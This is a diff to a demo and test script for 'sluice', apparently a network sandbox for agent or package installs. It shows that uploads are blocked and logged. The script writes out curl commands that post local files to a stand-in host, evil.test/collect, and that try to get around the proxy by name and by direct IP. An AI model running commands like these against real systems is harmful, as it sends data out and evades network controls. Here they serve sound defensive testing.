@@ -7,6 +7,7 @@
 # Usage: tools/demo-lab.sh (root; SLUICE_BUILD_DIR = the build directory, default ./build).
 #   SLUICE_DEMO_OUT=DIR   copy the session's audit log to DIR/audit.log before the lab goes away
 #   SLUICE_DEMO_COLOR=0|1 force colours off/on (default: on when stdout is a terminal)
+#   SLUICE_DEMO_INSTALLER=curl   use curl instead of npm (the fallback when npm is not installed)
 # Exit status: 0 when every outcome the demo shows happened (no network by default, the install worked,
 # evil.test was denied, the audit log verifies), 1 otherwise.
 set -uo pipefail
@@ -52,6 +53,9 @@ for b in sluice sluicectl; do
 	command -v "$b" >/dev/null || lab_bail "$b is not built in $SLUICE_BUILD_DIR (run tools/demo.sh)"
 done
 lab_internet_up >/dev/null
+# The lab host routes like a real gateway machine would: sessions get nowhere directly because of
+# nftables, not because forwarding happens to be off.
+lab_forward on
 # The demo's own home and project: nothing of the machine's user configuration takes part.
 export HOME=$LAB_DIR/home
 proj=$LAB_DIR/my-project
@@ -78,13 +82,15 @@ cat >demo-policy.json <<-'EOF'
 	  "allow": ["registry.test"]
 	}
 EOF
-if command -v npm >/dev/null && command -v node >/dev/null; then
+if [ "${SLUICE_DEMO_INSTALLER:-npm}" = npm ] && command -v npm >/dev/null && command -v node >/dev/null; then
 	cat >install.sh <<-'EOF'
 		# what an agent (or a postinstall script) does inside the sandbox
 		npm install --registry http://registry.test/ --no-audit --no-fund --no-update-notifier sluice-demo
 		node -e 'console.log("require(\"sluice-demo\") ->", require("sluice-demo"))'
-		echo "--- and now an upload to a host the policy does not allow:"
-		curl -sS --data-binary @package.json http://evil.test/collect
+		echo "--- and now an upload to a host the policy does not allow, three ways:"
+		curl -sS -w "(HTTP %{http_code})\n" --data-binary @package.json http://evil.test/collect
+		curl -sS --noproxy '*' http://evil.test/                            # around the proxy, by name
+		curl -sS --noproxy '*' --connect-timeout 2 http://198.18.1.13/      # around the proxy, by address
 	EOF
 	installer=npm
 else
@@ -94,8 +100,10 @@ else
 		curl -sS http://registry.test/sluice-demo | head -c 200; echo
 		curl -sS -o sluice-demo-1.0.0.tgz http://registry.test/sluice-demo/-/sluice-demo-1.0.0.tgz &&
 			tar -xzf sluice-demo-1.0.0.tgz && echo "installed: $(cat package/index.js)"
-		echo "--- and now an upload to a host the policy does not allow:"
-		curl -sS --data-binary @demo-policy.json http://evil.test/collect
+		echo "--- and now an upload to a host the policy does not allow, three ways:"
+		curl -sS -w "(HTTP %{http_code})\n" --data-binary @demo-policy.json http://evil.test/collect
+		curl -sS --noproxy '*' http://evil.test/                            # around the proxy, by name
+		curl -sS --noproxy '*' --connect-timeout 2 http://198.18.1.13/      # around the proxy, by address
 	EOF
 	installer=curl
 fi
@@ -118,7 +126,7 @@ else
 		verdict OK "the package was fetched from the allowed registry (curl)"
 	else verdict FAIL "fetching from registry.test did not work"; fi
 fi
-if grep -q '403' <<<"$out" && grep -qi 'evil.test' <<<"$out"; then
+if grep -q '(HTTP 403)' <<<"$out" && grep -q 'host: *evil.test' <<<"$out"; then
 	verdict OK "the upload to evil.test was refused with 403 and the reason"
 else verdict FAIL "evil.test was not refused with a 403"; fi
 
@@ -131,6 +139,13 @@ denied=$(jq -r 'select(.decision == "deny") | .host' "$audit" 2>/dev/null | sort
 allowed=$(jq -r 'select(.decision == "allow" and .protocol == "http") | .host' "$audit" 2>/dev/null | sort -u | tr '\n' ' ')
 [[ " $denied " == *" evil.test "* ]] && verdict OK "the audit log records the denial of evil.test" ||
 	verdict FAIL "no denial of evil.test in the audit log"
+dns_denied=$(jq -r 'select(.protocol == "dns" and .decision == "deny") | .host' "$audit" 2>/dev/null | sort -u | tr '\n' ' ')
+drops=$(jq -r 'select(.protocol == "drop") | .host' "$audit" 2>/dev/null | sort -u | tr '\n' ' ')
+if [[ " $dns_denied " == *" evil.test "* ]] && ! lab_dns_queries | grep -qi '^evil\.test$'; then
+	verdict OK "the DNS query for evil.test was refused locally and never reached the internet's DNS server"
+else verdict FAIL "the DNS query for evil.test was not refused, or it left the host"; fi
+[[ " $drops " == *" 198.18.1.13 "* ]] && verdict OK "the direct connection to 198.18.1.13 was dropped by nftables and logged" ||
+	verdict FAIL "no drop record for the direct connection to 198.18.1.13"
 [[ " $allowed " == *" registry.test "* ]] && verdict OK "the audit log records the allowed registry requests" ||
 	verdict FAIL "no allowed registry.test request in the audit log"
 say "The log is hash-chained: editing, removing or reordering a line shows"
